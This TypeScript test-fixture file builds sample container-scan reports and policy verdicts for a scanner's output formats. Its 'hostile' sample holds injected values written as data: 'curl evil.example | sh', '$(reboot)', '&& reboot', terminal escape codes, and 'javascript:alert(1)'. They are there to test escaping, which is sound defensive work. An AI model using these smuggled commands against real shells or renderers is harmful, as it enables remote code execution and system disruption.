import type { Digest } from '../../src/model/digest.ts';
import { type Finding, findingId, type ScanReport } from '../../src/model/scan-report.ts';
import { judge } from '../../src/verdict/judge.ts';
import { parsePolicy } from '../../src/verdict/policy-file.ts';

export const now = Date.parse('2026-11-23T08:00:00Z');

export function digestOf(character: string): Digest {
  return `sha256:${character.repeat(64)}` as Digest;
}

const layers = [
  { diffId: digestOf('1'), createdBy: '/bin/sh -c #(nop) ADD file:0123 in / ' },
  { diffId: digestOf('2'), createdBy: '/bin/sh -c apt-get update && apt-get install -y nginx' },
  { diffId: digestOf('3'), createdBy: 'COPY node_modules /app/node_modules # buildkit' },
  { diffId: digestOf('4'), createdBy: 'RUN /bin/sh -c npm prune # buildkit' },
  { diffId: null },
];

export function vulnerability(changes: Partial<Finding> & Pick<Finding, 'rule'>): Finding {
  const packageName = changes.packageName ?? 'libexpat1';
  return {
    kind: 'vulnerability',
    severity: 'critical',
    title: `${changes.rule} in ${packageName}`,
    package: `pkg:deb/debian/${packageName}@2.5.0-1?arch=amd64&distro=debian-12`,
    installed: '2.5.0-1',
    layer: digestOf('1'),
    status: 'open',
    ...changes,
    packageName,
    id: findingId({ kind: 'vulnerability', rule: changes.rule, packageName }),
  };
}

export function npmVulnerability(changes: Partial<Finding> & Pick<Finding, 'rule'>): Finding {
  const { packageName = 'lodash', installed = '4.17.15' } = changes;
  return vulnerability({
    severity: 'high',
    package: `pkg:npm/${packageName}@${installed}`,
    fixedIn: '4.17.21',
    layer: digestOf('3'),
    ...changes,
    packageName,
    installed,
  });
}

export function other(changes: Partial<Finding> & Pick<Finding, 'kind' | 'rule'>): Finding {
  const { kind, rule, path } = changes;
  return {
    id: findingId({ kind, rule, ...(path === undefined ? {} : { path }) }),
    severity: 'high',
    title: rule,
    layer: digestOf('4'),
    status: 'open',
    ...changes,
  };
}

export function report(changes: Partial<ScanReport> = {}): ScanReport {
  return {
    schemaVersion: 1,
    tool: { name: 'sekisho', version: '0.1.0' },
    scannedAt: '2026-11-23T07:59:30Z',
    image: {
      reference: 'registry.example/apps/shop:2.4.1',
      digest: digestOf('9'),
      platform: 'linux/amd64',
      layers,
    },
    os: { id: 'debian', versionId: '12.7', name: 'Debian GNU/Linux' },
    packages: [
      {
        purl: 'pkg:npm/lodash@4.17.15',
        name: 'lodash',
        version: '4.17.15',
        type: 'npm',
        layer: digestOf('3'),
      },
      {
        purl: 'pkg:deb/debian/libexpat1@2.5.0-1',
        name: 'libexpat1',
        version: '2.5.0-1',
        type: 'deb',
        layer: digestOf('1'),
        files: ['/usr/lib/x86_64-linux-gnu/libexpat.so.1'],
      },
    ],
    findings: [],
    executables: [],
    advisories: { builtAt: '2026-11-22T18:00:00Z', digest: digestOf('a') },
    complete: true,
    problems: [],
    compliance: [],
    verdict: null,
    ...changes,
  };
}

/** The report as the policy with these lines leaves it. */
export function judged(unjudged: ScanReport, policy: string): ScanReport {
  const { verdict, findings } = judge(
    { repository: 'apps/shop', tag: '2.4.1', ...unjudged, digest: unjudged.image.digest },
    parsePolicy(policy, 'sekisho.yaml'),
    { now },
  );
  return { ...unjudged, verdict, findings: [...findings] };
}

export const strict = `version: 1
rules:
  - repositories: ["apps/**"]
    block:
      vulnerabilities: [{ severity: high }]
      secrets: any
      malware: any
      misconfigurations: [CIS-4.1]
      integrity: [modified]
`;

/** One report for each thing a reader may meet; the goldens of every format are written from these. */
export const samples: Readonly<Record<string, ScanReport>> = {
  fail: judged(
    report({
      findings: [
        npmVulnerability({
          rule: 'CVE-2021-23337',
          aliases: ['GHSA-35jh-r3h4-6jhm'],
          fixedIn: '4.17.21',
          cvss: 7.2,
        }),
        npmVulnerability({ rule: 'CVE-2020-28500', severity: 'medium', fixedIn: '4.17.21' }),
        npmVulnerability({ rule: 'CVE-2020-8203', fixedIn: '4.17.19', epss: 0.0123 }),
        vulnerability({
          rule: 'CVE-2024-45491',
          fixedIn: '2.5.0-1+deb12u1',
          epss: 0.91,
          knownExploited: true,
        }),
        vulnerability({ rule: 'CVE-2023-52425', severity: 'low', fixedIn: '2.5.0-1+deb12u1' }),
        vulnerability({
          rule: 'CVE-2024-6119',
          severity: 'high',
          packageName: 'libssl3',
          installed: '3.0.14-1',
          fixedIn: '3.0.14-2',
          layer: digestOf('2'),
        }),
        vulnerability({
          rule: 'CVE-2023-4911',
          severity: 'high',
          packageName: 'libc6',
          fixState: 'wont-fix',
        }),
        vulnerability({ rule: 'CVE-2024-0001', packageName: 'zlib1g' }),
        vulnerability({ rule: 'CVE-2024-0002', packageName: 'zlib1g' }),
        vulnerability({
          rule: 'CVE-2025-0001',
          severity: 'unknown',
          packageName: 'zlib1g',
          status: 'suppressed',
        }),
        other({ kind: 'secret', rule: 'aws-access-key-id', path: '/app/.env' }),
        other({
          kind: 'misconfiguration',
          rule: 'CIS-4.1',
          title: 'runs as root',
          severity: 'medium',
          remedy: 'USER 1000',
        }),
        other({ kind: 'integrity', rule: 'modified', path: '/usr/bin/curl', layer: null }),
      ],
    }),
    `${strict}    tags: { immutable: semver }
waivers:
  - { rule: CVE-2024-0001, until: 2026-11-28, reason: not reachable, owner: platform }
  - { rule: CVE-2024-0002, until: 2026-11-01, reason: not reachable, owner: platform }
`,
  ),
  pass: judged(
    report({
      findings: [vulnerability({ rule: 'CVE-2023-52425', severity: 'low', fixedIn: '2.5.0-1+deb12u1' })],
    }),
    strict,
  ),
  'pass-without-findings': judged(report(), strict),
  'one-finding': judged(report({ findings: [npmVulnerability({ rule: 'CVE-2021-23337' })] }), strict),
  allowed: judged(
    report({ findings: [npmVulnerability({ rule: 'CVE-2021-23337' })] }),
    `${strict}    images: { allow: ["apps/*:2.*"] }\n`,
  ),
  denied: judged(report(), `${strict}    images: { deny: ["apps/shop:*"] }\n    mode: audit\n`),
  'no-policy': report({
    findings: [
      vulnerability({
        rule: 'CVE-2023-52425',
        severity: 'low',
        fixedIn: '2.5.0-1+deb12u1',
        knownExploited: true,
      }),
      npmVulnerability({ rule: 'CVE-2021-23337' }),
      vulnerability({ rule: 'CVE-2024-45491' }),
    ],
  }),
  'no-policy-without-findings': report(),
  incomplete: judged(
    report({
      complete: false,
      problems: [
        'var/lib/dpkg/status: a stanza has no Package',
        ...[2, 3, 4, 5, 6, 7].map((n) => `layer ${n} is missing`),
      ],
      findings: [npmVulnerability({ rule: 'CVE-2021-23337' })],
      advisories: null,
    }),
    strict,
  ),
  many: judged(
    report({
      findings: Array.from({ length: 60 }, (_, index) =>
        vulnerability({
          rule: `CVE-2024-${10_000 + index}`,
          severity: (['critical', 'high', 'medium', 'low'] as const)[index % 4] ?? 'low',
          packageName: `lib${String.fromCodePoint(97 + (index % 13))}`,
          fixedIn: '2.5.1',
        }),
      ),
    }),
    strict,
  ),
  hostile: judged(
    report({
      image: {
        reference: 'registry.example/apps/shop:2.4.1\u001b[2J',
        digest: null,
        platform: 'linux/amd64\n',
        layers: [{ diffId: digestOf('3'), createdBy: 'RUN \u001b]0;owned\u0007 `reboot`\n\n' }],
      },
      os: { id: 'debian\u202e', versionId: '12\r' },
      complete: false,
      problems: ['\u001b[31mall fine\nFAIL'],
      findings: [
        npmVulnerability({ rule: 'CVE-1', packageName: 'x; curl evil.example | sh' }),
        npmVulnerability({ rule: 'CVE-2', packageName: 'ok', fixedIn: '1.0.0 && reboot' }),
        npmVulnerability({ rule: 'CVE-3', packageName: '--global' }),
        vulnerability({ rule: 'CVE-4', packageName: '$(reboot)', fixedIn: '1' }),
        vulnerability({ rule: 'CVE-5', packageName: '漢字のとても長い名前'.repeat(8), fixedIn: '1' }),
        other({
          kind: 'secret',
          rule: 'private-key\u0000',
          title: '[click](https://evil.example) @all <img src=x>',
          path: `/app/${'deep/'.repeat(800)}\u0085key.pem`,
          url: 'javascript:alert(1)',
        }),
      ],
    }),
    strict,
  ),
};
